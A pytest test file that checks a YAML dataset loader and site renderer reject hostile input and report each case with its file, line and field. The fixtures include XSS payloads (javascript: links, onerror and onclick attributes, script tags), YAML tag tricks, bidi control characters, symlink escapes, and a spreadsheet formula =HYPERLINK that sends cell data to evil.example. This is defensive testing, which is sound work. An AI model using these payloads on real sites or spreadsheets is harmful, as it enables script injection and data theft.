"""Hostile input, one fixture per class: each gives a reported problem (file, line, field), never a
traceback, a hang or a read outside data/."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from conftest import edit, line_of, problems_of
from natoaz.load.yaml_loader import MAX_DEPTH, load_yaml
from natoaz.model.urls import url_problem
from natoaz.problems import ERROR, WARNING

EVENTS = "events/1994.yaml"


def hits(problems, file_end: str, field: str, text: str, severity: str = ERROR):
    found = [p for p in problems if p.file.endswith(file_end) and p.field == field and text in p.message
             and p.severity == severity]
    assert found, f"no {severity} {file_end} {field} {text!r} in:\n" + "\n".join(map(str, problems))
    return found[0]


# (file, text replaced, replacement, field, words of the message, line holding the value)
SEMANTIC = [
    ("events/1994.yaml", "date: 1994-05-04", 'date: "0000"', "date", "no year 0000", 'date: "0000"'),
    ("events/1994.yaml", "sources: [mfa-overview]", "sources: true", "sources", "expected a list", "sources: true"),
    ("events/1994.yaml", "  added: 2026-01-02", "  disagreements: [oops]\n  added: 2026-01-02", "disagreements[0]",
     "expected a group of fields", "disagreements: [oops]"),
    ("quotes/2025.yaml", "speaker: alex-speaker", "speaker: [a-list]", "speaker", "expected text", "speaker:"),
    ("people/heydar-aliyev.yaml", "roles:\n", "roles: true\nx_roles:\n", "roles", "expected a list", "roles: true"),
    ("events/1994.yaml", "title: Azerbaijan", "title: " + "[" * 500 + "]" * 500 + "\n  x: Azerbaijan", "[0].title",
     f"nested more than {MAX_DEPTH} levels", "title: [[["),
    ("events/1994.yaml", "id: 1994-05-04-pfp-signed", 'id: "x\\n"', "id", "not a valid id", 'id: "x'),
    ("events/1994.yaml", "id: 1994-05-04-pfp-signed", 'id: "1994"', "id", "taken by an anchor", 'id: "1994"'),
    ("events/1994.yaml", "id: 1994-05-04-pfp-signed", "id: quote-x", "id", "taken by an anchor", "id: quote-x"),
    ("events/1994.yaml", "title: Azerbaijan", 'title: "NUL\\0"\n  x: Azerbaijan', "[0].title", "U+0000 (NULL)", "NUL"),
    ("events/1994.yaml", "title: Azerbaijan", 'title: "BEL\\a"\n  x: Azerbaijan', "[0].title", "U+0007 (BELL)", "BEL"),
    ("events/1994.yaml", "title: Azerbaijan", "title: RLO\u202e Azerbaijan", "[0].title",
     "U+202E (RIGHT-TO-LEFT OVERRIDE)", "RLO"),
    ("events/1994.yaml", "title: Azerbaijan", "title: ZW\u200b Azerbaijan", "[0].title", "U+200B (ZERO WIDTH SPACE)",
     "ZW"),
    ("events/1994.yaml", "title: Azerbaijan", "title: !!str Azerbaijan", "[0].title",
     "YAML tag `tag:yaml.org,2002:str`", "!!str"),
    ("events/1994.yaml", "sectors: [political-dialogue]", "sectors: !!seq [political-dialogue]", "[0].sectors",
     "YAML tag", "!!seq"),
    ("events/1994.yaml", "place: NATO", 'place: !custom "NATO"\n  x: NATO', "[0].place", "YAML tag `!custom`",
     "!custom"),
    ("events/1994.yaml", "place: NATO", "place: 012\n  x_place: NATO", "[0].place", "read as the number 10", "012"),
    ("events/1994.yaml", "place: NATO", "place: 0x1F\n  x_place: NATO", "[0].place", "read as the number 31", "0x1F"),
    ("sources/news-speech.yaml", "url: https://example.org/news/speech",
     "url: https://x.org/><img src=x onerror=alert(1)>", "url", "not a usable web address", "url:"),
    ("sources/news-speech.yaml", "url: https://example.org/news/speech", "url: javascript:alert(1)", "url",
     "not a usable web address", "url:"),
    ("sources/news-speech.yaml", "added:", 'archive_url: "https://a.org/\\"><script>x</script>"\nadded:',
     "archive_url", "not a usable web address", "archive_url:"),
    ("events/1994.yaml", "The president signs", "[x](javascript:alert(1)) signs", "summary",
     "a link that cannot be read", "summary:"),
    ("events/1994.yaml", "The president signs", "[x](javascript:alert) signs", "summary",
     "does not start with http:// or https://", "summary:"),
    ("events/1994.yaml", "The president signs", "![p](https://elsewhere.example/p.png) signs", "summary",
     "an image", "summary:"),
    ("events/1994.yaml", "The president signs", 'The {: onclick="alert(1)" } president signs', "summary",
     "an attribute list", "summary:"),
    ("events/1994.yaml", "The president signs", "The <b onclick=x>president</b> signs", "summary",
     "raw HTML", "summary:"),
    ("events/1994.yaml", "The president signs", "[x][r] signs", "summary", "a reference link", "summary:"),
    ("events/1994.yaml", "title: Azerbaijan", 'title: "A\\n\\nB\\n{: onclick=alert(1) }"\n  x: Azerbaijan', "title",
     "a line break or tab in a one-line field", 'title: "A'),
]


@pytest.mark.parametrize(("file", "old", "new", "field", "text", "needle"), SEMANTIC,
                         ids=["year-0000", "sources-true", "disagreements-oops", "speaker-list", "roles-true",
                              "500-nested", "id-trailing-newline", "id-year-anchor", "id-quote-anchor", "nul-escape",
                              "bel", "rlo-raw", "zero-width", "tag-on-quoted-value", "tag-on-list", "custom-tag",
                              "octal-012", "hex-0x1f", "url-markup", "url-javascript", "archive-url-quote",
                              "md-javascript-link", "md-javascript-link-no-parens", "md-image", "md-attr-list",
                              "md-raw-html", "md-reference-link", "plain-line-break"])
def test_bad_value_is_a_problem_at_its_line(mini: Path, file: str, old: str, new: str, field: str, text: str,
                                            needle: str) -> None:
    edit(mini / file, old, new)
    problem = hits(problems_of(mini), file, field, text)
    assert problem.line == line_of(mini / file, needle)
    if field == "summary":
        assert problem.hint.startswith("inline Markdown only")


def test_raw_nul_byte_is_reported_at_its_line_and_column(mini: Path) -> None:
    path = mini / EVENTS
    path.write_bytes(path.read_bytes().replace(b"title: Azerbaijan", b"title: Az\x00erbaijan"))
    problem = hits(problems_of(mini), EVENTS, "", "U+0000 (NULL)")
    assert (problem.line, problem.col) == (line_of(path, "title: Az"), len("  title: Az") + 1)


def test_refused_characters_are_never_echoed_raw(mini: Path) -> None:
    edit(mini / EVENTS, "id: 1994-05-04-pfp-signed", 'id: "a\\u202eb\\u0007\\n"')
    for problem in problems_of(mini):
        assert not any(c in str(problem) for c in "\u202e\x07\n"), str(problem)
    assert any("<U+202E>" in p.message for p in problems_of(mini))


@pytest.mark.parametrize("content", ["", "# only a comment\n", "# yaml-language-server: $schema=x\n\n"])
def test_empty_or_comment_only_file_is_a_warning(mini: Path, content: str) -> None:
    (mini / "events/1999.yaml").write_text(content, encoding="utf-8")
    hits(problems_of(mini), "events/1999.yaml", "", "holds no records", WARNING)


def test_tags_anchors_merges_are_refused_anywhere() -> None:
    text = b"- !!map {id: a}\n- &x {id: b}\n- id: c\n  <<: {t: 1}\n  d: *x\n"
    _, problems = load_yaml(text, "f.yaml")
    found = {(p.line, p.field, p.message[:15]) for p in problems}
    assert found == {(1, "[0]", "YAML tag `tag:y"), (2, "[1]", "YAML anchors an"),
                     (4, "[2]", "YAML merge keys"), (5, "[2].d", "YAML anchors an")}


def test_absurd_nesting_is_refused_without_crashing() -> None:
    _, problems = load_yaml(b"[" * 900_000, "deep.yaml")  # libyaml's own composer segfaults on this
    assert len(problems) == 1 and "nested more than" in problems[0].message


@pytest.mark.parametrize(("url", "reason"), [
    ("https://nato.int/x?a=1#b", ""), ("http://xn--80ak6aa92e.com/", ""), ("https://bakı.az/ə", ""),
    ("https://x.org/a b", "a space"), ("https://x.org/\"", "U+0022"), ("https://x.org/<p>", "U+003C"),
    ("https:///path", "no host"), ("//x.org/", "http"), ("data:text/html,x", "http"),
    ("javascript://x.org/%0aalert(1)", "http"), ("https://nato.int@evil.example/", "user@"),
    ("https://x.org:99999/", "parsed"), ("https://x_y.org/", "host name"),
])
def test_urls_are_parsed_strictly(url: str, reason: str) -> None:
    problem = url_problem(url)
    assert (reason in problem) if reason else problem == ""


# -- files ---------------------------------------------------------------------------------------

def test_dangling_symlink(mini: Path) -> None:
    (mini / "events/2000.yaml").symlink_to(mini / "events/nowhere.yaml")
    hits(problems_of(mini), "events/2000.yaml", "", "symlink to nothing")


def test_symlink_loop(mini: Path) -> None:
    (mini / "events/a.yaml").symlink_to(mini / "events/b.yaml")
    (mini / "events/b.yaml").symlink_to(mini / "events/a.yaml")
    problems = problems_of(mini)
    hits(problems, "events/a.yaml", "", "symlink loop")
    hits(problems, "events/b.yaml", "", "symlink loop")


def test_symlink_out_of_data_is_not_read(mini: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secret.yaml"
    outside.write_text("- id: 2001-01-01-secret\n  title: SECRET\n", encoding="utf-8")
    (mini / "events/2001.yaml").symlink_to(outside)
    problems = problems_of(mini)
    hits(problems, "events/2001.yaml", "", "symlink leading out of data/")
    assert not any("secret" in str(p) for p in problems)


def test_symlink_inside_data_is_followed(mini: Path) -> None:
    (mini / "events/elsewhere").mkdir()
    (mini / EVENTS).rename(mini / "events/elsewhere/1994.yaml")
    (mini / EVENTS).symlink_to(mini / "events/elsewhere/1994.yaml")
    # read twice, through the link and directly: the same record is a duplicate
    hits(problems_of(mini), "events/elsewhere/1994.yaml", "id", "duplicate id")


def test_fifo_is_reported_and_never_opened(mini: Path) -> None:
    os.mkfifo(mini / "events/x.yaml")  # opening it for reading would block forever
    hits(problems_of(mini), "events/x.yaml", "", "named pipe (FIFO)")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads unreadable files")
def test_unreadable_file_and_folder(mini: Path) -> None:
    (mini / "events/2002.yaml").write_text("- id: x\n", encoding="utf-8")
    (mini / "events/2002.yaml").chmod(0)
    (mini / "quotes/old").mkdir()
    (mini / "quotes/old").chmod(0)
    try:
        problems = problems_of(mini)
        hits(problems, "events/2002.yaml", "", "cannot read the file")
        hits(problems, "quotes/old", "", "cannot read the folder")
    finally:
        (mini / "quotes/old").chmod(stat.S_IRWXU)


def test_read_errors_are_reported_even_as_root(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import natoaz.load.dataset as dataset

    real_open, real_listdir = os.open, os.listdir

    def deny(path, *args, **kwargs):
        if str(path).endswith(("2002.yaml", "old")):
            raise PermissionError(13, "Permission denied")
        return (real_open if args else real_listdir)(path, *args, **kwargs)

    (mini / "events/2002.yaml").write_text("- id: x\n", encoding="utf-8")
    (mini / "quotes/old").mkdir()
    monkeypatch.setattr(dataset.os, "open", deny)
    monkeypatch.setattr(dataset.os, "listdir", deny)
    problems = problems_of(mini)
    hits(problems, "events/2002.yaml", "", "cannot read the file: Permission denied")
    hits(problems, "quotes/old", "", "cannot read the folder: Permission denied")


# -- downloads -----------------------------------------------------------------------------------

def test_csv_cells_cannot_be_formulas_and_json_stays_exact(mini: Path) -> None:
    import csv
    import io
    import json

    from natoaz.check.validate import load_valid
    from natoaz.render import render_site

    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    edit(mini / "sources/news-speech.yaml", "title: Official describes the partnership", f"title: '{title}'")
    edit(mini / "sources/news-speech.yaml", "author: A. Reporter", "author: '@SUM(1+1)'")
    edit(mini / "sources/news-speech.yaml", "publisher: Example News", 'publisher: "-2+3"')
    files = render_site(load_valid(mini)[0])
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(files["downloads/sources.csv"].removeprefix("\ufeff")))}
    assert rows["news-speech"]["title"] == "'" + title
    assert rows["news-speech"]["author"] == "'@SUM(1+1)"
    assert rows["news-speech"]["publisher"] == "'-2+3"
    from natoaz.render.escape import csv_cell  # tab and CR cannot reach a one-line field, but still:

    assert [csv_cell(c) for c in ("\tx", "\rx", "+1", "a=b", "")] == ["'\tx", "'\rx", "'+1", "a=b", ""]
    records = {r["id"]: r for r in json.loads(files["downloads/nato-azerbaijan.json"])["records"]["sources"]}
    assert records["news-speech"]["title"] == title and records["news-speech"]["publisher"] == "-2+3"
    assert "source: =HYPERLINK(\"https://evil.example/?\"&amp;A1" in files["feed.xml"]  # Atom: exact, escaped
    assert "remove that apostrophe" in files["data.md"]
